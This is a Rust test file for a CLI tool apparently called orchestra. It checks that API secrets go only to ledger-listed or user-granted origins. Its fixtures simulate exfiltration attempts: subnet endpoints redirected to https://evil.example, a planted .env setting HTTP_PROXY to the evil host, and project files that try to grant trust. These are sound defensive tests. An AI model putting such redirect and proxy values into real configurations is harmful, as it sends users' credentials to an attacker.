//! Secrets go to an origin that the Ledger lists or the user named, and nowhere else.

use orchestra_tests::{server::Server, subnet::Subnet, terminal::Terminal};

use super::victim::{KEY, Victim, asking_for, asks};

const GRANT: &str = "AWS_SECRET_ACCESS_KEY=https://evil.example";

/// A project whose overlay asks for somebody else's key for its own host.
fn cloned() -> Victim {
    let evil = asking_for("AWS_SECRET_ACCESS_KEY", "evil", "https://evil.example");
    Victim::new(&[evil], &asks("evil"))
}

/// A project whose overlay leads a listed subnet to its own host.
fn redirected(call: &str) -> Victim {
    let victim = Victim::new(&[], call);
    let entry = r#"{ "slug": "desearch", "endpoints": { "rest": { "base_url": "https://evil.example" } } }"#;
    victim.workplace.write("ledger/subnets/desearch.json", entry);
    victim
}

#[test]
fn somebody_elses_secret_does_not_go_to_a_projects_own_host() {
    let victim = cloned();
    let hint = "orchc trust AWS_SECRET_ACCESS_KEY https://evil.example";
    let words = ["AWS_SECRET_ACCESS_KEY isn't trusted to go to https://evil.example", hint];
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &words);
    victim.assert_refused(&victim.run(&["run", "main.orch", "--dry-run"]), &words);
    victim.assert_refused(&victim.run(&["run", "main.orch", "--job", "j", "--quiet"]), &words);
    let plan = victim.run(&["plan", "main.orch"]);
    assert!(plan.code == Some(0) && plan.stdout.contains("https://evil.example"), "{plan:#?}");
    victim.assert_silent();
}

#[test]
fn nor_on_a_terminal() {
    let victim = cloned();
    let mut command = victim.workplace.command(["run", "main.orch"]);
    command.env("AWS_SECRET_ACCESS_KEY", KEY);
    let (code, shown) = Terminal::run(command);
    assert_eq!(code, Some(2), "{shown}");
    assert!(shown.contains("isn't trusted to go to https://evil.example"), "{shown}");
    assert!(!shown.contains(KEY), "{shown}");
    victim.assert_silent();
}

#[test]
fn a_listed_subnet_led_elsewhere_gets_no_key() {
    let words = ["DESEARCH_API_KEY isn't trusted to go to https://evil.example"];
    let victim = redirected(
        "use subnet desearch, harmless\n\ntemplate main() -> json {\n  call harmless.get {}\n  \
         let found = call desearch.web_search { query: \"tea\" }\n  found.data.len()\n}\n",
    );
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &words);
    let by_capability = redirected(
        "use subnet harmless\nuse capability search\n\ntemplate main() -> json {\n  call \
         harmless.get {}\n  let found = call search.web { query: \"tea\" }\n  found.hits.len()\n}\n",
    );
    by_capability.assert_refused(&by_capability.run(&["run", "main.orch"]), &words);
    let writer = [("CHUTES_API_KEY", "key-of-chutes")];
    let shipped = ["run", "std:market_research", "--input=topic=tea"];
    let shipped = by_capability.run_with(&writer, &shipped);
    by_capability.assert_refused(&shipped, &words);
}

#[test]
fn what_the_user_grants_is_granted_and_no_more() {
    let victim = cloned();
    for other in [
        "AWS_SECRET_ACCESS_KEY=https://other.example",
        "AWS_SECRET_ACCESS_KEY=https://evil.example:8443",
        "AWS_SECRET_ACCESS_KEY=https://sub.evil.example",
        "AWS_SECRET_ACCESS_KEY=http://evil.example",
        "aws_secret_access_key=https://evil.example",
        "DESEARCH_API_KEY=https://evil.example",
    ] {
        let ran = victim.run_with(&[("ORCHESTRA_TRUST", other)], &["run", "main.orch"]);
        victim.assert_refused(&ran, &["isn't trusted"]);
    }
    let garbage = victim.run_with(&[("ORCHESTRA_TRUST", "evil")], &["run", "main.orch"]);
    victim.assert_refused(&garbage, &["ORCHESTRA_TRUST"]);
    // Granted, it is tried: a tunnel is asked for, and the proxy refuses it.
    let ran = victim.run_with(&[("ORCHESTRA_TRUST", GRANT)], &["run", "main.orch"]);
    assert_eq!(ran.code, Some(3), "{ran:#?}");
    let asked = victim.proxy.requests();
    assert!(!asked.is_empty(), "{ran:#?}");
    for request in asked {
        assert_eq!((&*request.method, &*request.target), ("CONNECT", "evil.example:443"));
        assert!(!format!("{request:?}").contains(KEY), "what is encrypted isn't told the proxy");
    }
}

#[test]
fn a_grant_is_kept_with_the_user_and_not_in_the_project() {
    let victim = cloned();
    let granted = ["trust", "AWS_SECRET_ACCESS_KEY", "https://evil.example"];
    let ran = victim.run(&granted);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let listed = victim.run(&["trust"]);
    assert_eq!(listed.stdout.trim(), GRANT);
    let files = victim.workplace.files();
    let holding = files.iter().filter(|(_, bytes)| {
        let text = String::from_utf8_lossy(bytes);
        text.contains(GRANT)
    });
    let holding: Vec<_> = holding.map(|(path, _)| path.clone()).collect();
    assert!(holding.len() == 1 && holding[0].starts_with("home"), "{holding:?}");
    let ran = victim.run(&["run", "main.orch"]);
    assert_eq!(ran.code, Some(3), "{ran:#?}");
    assert_eq!(victim.proxy.requests()[0].target, "evil.example:443");
}

#[test]
fn a_project_can_not_grant_anything() {
    let victim = cloned();
    let manifest = format!(
        "[ledger]\noverlay = \"ledger/\"\n\n[trust]\n{}\n",
        GRANT.replace('=', " = \"") + "\""
    );
    victim.workplace.write("orchestra.toml", &manifest);
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &["orchestra.toml"]);
    // Nor by files that look like ours.
    let victim = cloned();
    let _ = victim
        .workplace
        .write(".env", &format!("ORCHESTRA_TRUST={GRANT}\n"))
        .write("trusted-origins", GRANT)
        .write("config.toml", "")
        .write(".config/orchestra/trusted-origins", GRANT);
    victim.assert_refused(&victim.run(&["run", "main.orch"]), &["isn't trusted"]);
}

#[test]
fn no_env_file_of_a_project_is_read() {
    let victim =
        Victim::new(&[asking_for("OTHER_KEY", "other", "https://o.example")], &asks("other"));
    victim.workplace.write(".env", "OTHER_KEY=from-a-file\nHTTP_PROXY=http://evil.example\n");
    let ran = victim
        .run_with(&[("ORCHESTRA_TRUST", "OTHER_KEY=https://o.example")], &["run", "main.orch"]);
    victim.assert_refused(&ran, &["OTHER_KEY"]);
}

#[test]
fn a_secret_is_not_sent_in_the_clear_whatever_was_granted() {
    let plain = asking_for("AWS_SECRET_ACCESS_KEY", "plain", "http://plain.example");
    let victim = Victim::new(&[plain], &asks("plain"));
    let grant = ("ORCHESTRA_TRUST", "AWS_SECRET_ACCESS_KEY=http://plain.example");
    victim.assert_refused(&victim.run_with(&[grant], &["run", "main.orch"]), &["over plain http"]);
    let granted = victim.run(&["trust", "AWS_SECRET_ACCESS_KEY", "http://plain.example"]);
    victim.assert_refused(&granted, &["isn't encrypted"]);
}

#[test]
fn this_machine_needs_no_grant() {
    let server = Server::answering(r#"{"data": []}"#);
    let victim = Victim::new(
        &[],
        "use subnet desearch\n\ntemplate main() -> int {\n  let found = call desearch.web_search \
         { query: \"tea\" }\n  found.data.len()\n}\n",
    );
    let entry = format!(
        r#"{{ "slug": "desearch", "endpoints": {{ "rest": {{ "base_url": "{}" }} }} }}"#,
        server.url()
    );
    victim.workplace.write("ledger/subnets/desearch.json", &entry);
    let ran = victim.run(&["run", "main.orch"]);
    assert_eq!((ran.code, &*ran.stdout), (Some(0), "0\n"), "{ran:#?}");
    let [request] = &server.requests()[..] else { panic!("{ran:#?}") };
    assert_eq!((request.path(), request.header("authorization")), ("/web", Some(KEY)));
    assert_eq!(victim.proxy.connections(), 0, "no proxy hears of it");
}

#[test]
fn a_secret_input_goes_where_its_own_name_may_go() {
    let header = serde_json::json!({ "method": "GET", "path": "/n", "headers": ["token"] });
    let token = serde_json::json!({ "token": { "type": "string", "x-secret": true } });
    let entry = Subnet::at("evil", "https://evil.example").operation(
        "get",
        header,
        orchestra_tests::subnet::object(token),
        serde_json::json!({}),
    );
    let template = "use subnet evil\n\ntemplate main(token: secret) -> json {\n  \
                    call evil.get { token }\n}\n";
    let victim = Victim::new(&[entry], template);
    let run = |variables: &[(&str, &str)]| {
        victim
            .run_with(variables, &["run", "main.orch", "--input=token=@env:AWS_SECRET_ACCESS_KEY"])
    };
    let ran = run(&[]);
    assert_eq!(ran.code, Some(3), "{ran:#?}");
    assert!(ran.stderr.contains("AWS_SECRET_ACCESS_KEY isn't trusted"), "{ran:#?}");
    victim.assert_silent();
    let ran = run(&[("ORCHESTRA_TRUST", GRANT)]);
    assert_eq!(ran.code, Some(3), "{ran:#?}");
    assert_eq!(victim.proxy.requests()[0].target, "evil.example:443");
}
